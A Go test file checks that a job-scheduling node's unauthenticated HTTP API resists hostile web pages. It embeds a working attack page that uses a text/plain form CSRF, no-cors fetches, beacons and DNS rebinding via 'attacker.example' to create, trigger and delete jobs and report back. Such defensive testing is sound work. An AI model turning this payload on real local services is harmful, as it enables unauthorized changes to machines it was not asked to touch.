package httpapi_test

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"strings"
	"sync"
	"testing"
)

// attack is a page that tries what a page can: requests that need no preflight, forms, beacons, and requests
// to its own name, which meanwhile stands for the node's address. NODE stands for the node's URL.
const attack = `<!doctype html><iframe name="sink"></iframe>
<form id="form" method="post" enctype="text/plain" target="sink" action="NODE/v1/namespaces/default/jobs/victim:trigger">
<input name='{"a": "' value='"}'></form><script>
const said = {}, jobs = "/v1/namespaces/default/jobs", job = '{"due_time": "24h", "target": {"worker": {"queue": "q"}}}';
async function call(what, path, init) {
  try {
    const r = await fetch(path, init);
    said[what] = {status: r.status, body: r.type == "opaque" ? "" : await r.text()};
  } catch (e) { said[what] = {refused: String(e)}; }
}
const json = {"Content-Type": "application/json"};
(async () => {
  for (const [from, at] of [["other", "NODE"], ["rebound", ""]]) {
    await call(from + " get", at + jobs);
    await call(from + " put", at + jobs + "/evil", {method: "PUT", headers: json, body: job});
    await call(from + " simple put", at + jobs + "/evil", {method: "POST", mode: at ? "no-cors" : "cors", body: job});
    await call(from + " trigger", at + jobs + "/victim:trigger", {method: "POST", mode: at ? "no-cors" : "cors"});
    await call(from + " delete", at + jobs + "/victim", {method: "DELETE"});
    await call(from + " session", at + "/v1/session");
  }
  const beacon = at => navigator.sendBeacon(at + jobs + "/victim:trigger", new Blob(["{}"], {type: "text/plain"}));
  said.beacons = {body: String(beacon("NODE") && beacon(""))};
  const posted = new Promise(done => document.querySelector("iframe").addEventListener("load", done));
  document.getElementById("form").submit();
  await posted;
  await fetch("/said", {method: "POST", body: JSON.stringify(said)});
})();
</script>`

// resolver is the browser's proxy, in place of the DNS of the attacker: a name of his is the address of his
// server at first, and then that of the node, to which all below /v1/ goes. It sees what a node answers.
type resolver struct {
	node, attacker *httputil.ReverseProxy

	mu   sync.Mutex
	seen map[string]int // answers of the node, by request
}

func newResolver(node, attacker string) *resolver {
	r := &resolver{seen: map[string]int{}}
	to := func(address string) *httputil.ReverseProxy {
		return &httputil.ReverseProxy{Rewrite: func(p *httputil.ProxyRequest) { // Host stays as it is
			p.Out.URL.Scheme, p.Out.URL.Host, p.Out.Host = "http", address, p.In.Host
		}}
	}
	r.node, r.attacker = to(node), to(attacker)
	r.node.ModifyResponse = func(res *http.Response) error {
		r.mu.Lock()
		defer r.mu.Unlock()
		q := res.Request
		r.seen[fmt.Sprintf("%s %s of %s by %s", q.Method, q.URL.Path, q.Host, q.Header.Get("Sec-Fetch-Mode"))] = res.StatusCode
		return nil
	}
	return r
}

// ServeHTTP implements [http.Handler].
func (r *resolver) ServeHTTP(w http.ResponseWriter, q *http.Request) {
	if strings.HasPrefix(q.URL.Path, "/v1/") {
		r.node.ServeHTTP(w, q)
	} else {
		r.attacker.ServeHTTP(w, q)
	}
}

// TestHostilePageInABrowser: a page that somebody visits on the machine of a node without authentication
// reads and changes nothing there, from its own origin or by DNS rebinding. The browser is a real one, and
// does not shield the loopback addresses itself.
func TestHostilePageInABrowser(t *testing.T) {
	browser := findBrowser(t)
	said := make(chan map[string]saw, 1)
	node := startTrusting(t, "https://admin.example")
	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/said" {
			w.Header().Set("Content-Type", "text/html")
			_, _ = io.WriteString(w, strings.ReplaceAll(attack, "NODE", "http://"+node)) // the browser is gone if this fails
			return
		}
		var s map[string]saw
		if err := json.NewDecoder(r.Body).Decode(&s); err != nil {
			t.Errorf("the page said: %v", err)
		}
		said <- s
	}))
	defer attacker.Close()
	direct := func(method, path, body string) (int, string) {
		t.Helper()
		req, err := http.NewRequestWithContext(t.Context(), method, "http://"+node+path, strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		res, err := (&http.Client{}).Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		text, err := io.ReadAll(res.Body)
		if err != nil {
			t.Fatal(err)
		}
		return res.StatusCode, string(text)
	}
	const victim = "/v1/namespaces/default/jobs/victim"
	if code, text := direct("PUT", victim, `{"due_time": "24h", "target": {"worker": {"queue": "q"}}}`); code != 201 {
		t.Fatal(code, text)
	}
	_, before := direct("GET", "/v1/namespaces/default/jobs", "")

	r := newResolver(node, strings.TrimPrefix(attacker.URL, "http://"))
	dns := httptest.NewServer(r)
	defer dns.Close()
	_, port, err := net.SplitHostPort(node)
	if err != nil {
		t.Fatal(err)
	}
	home := (&url.URL{Scheme: "http", Host: "attacker.example:" + port, Path: "/"}).String()
	got := visit(t, browser, home, said, "--proxy-server="+dns.URL, "--proxy-bypass-list=<-loopback>",
		"--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests")

	for what, g := range got {
		if strings.Contains(g.Body, "victim") || g.Status >= 200 && g.Status < 300 {
			t.Errorf("%s: the page saw %+v", what, g)
		}
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	if len(got) != 13 || len(r.seen) < 8 {
		t.Errorf("the page did %d things, of which the node saw %v", len(got), r.seen)
	}
	for request, code := range r.seen {
		// A read at the node's own name is answered: the browser keeps the answer from the page.
		if own := strings.Contains(request, " of "+node+" "); code < 400 && !(own && strings.HasPrefix(request, "GET ")) {
			t.Errorf("%s: %d", request, code)
		}
	}
	if _, after := direct("GET", "/v1/namespaces/default/jobs", ""); after != before {
		t.Errorf("the jobs are %s, and were %s", after, before)
	}
	if _, runs := direct("GET", victim+":runs", ""); strings.Contains(runs, `"id"`) {
		t.Errorf("the page has begun %s", runs)
	}
}
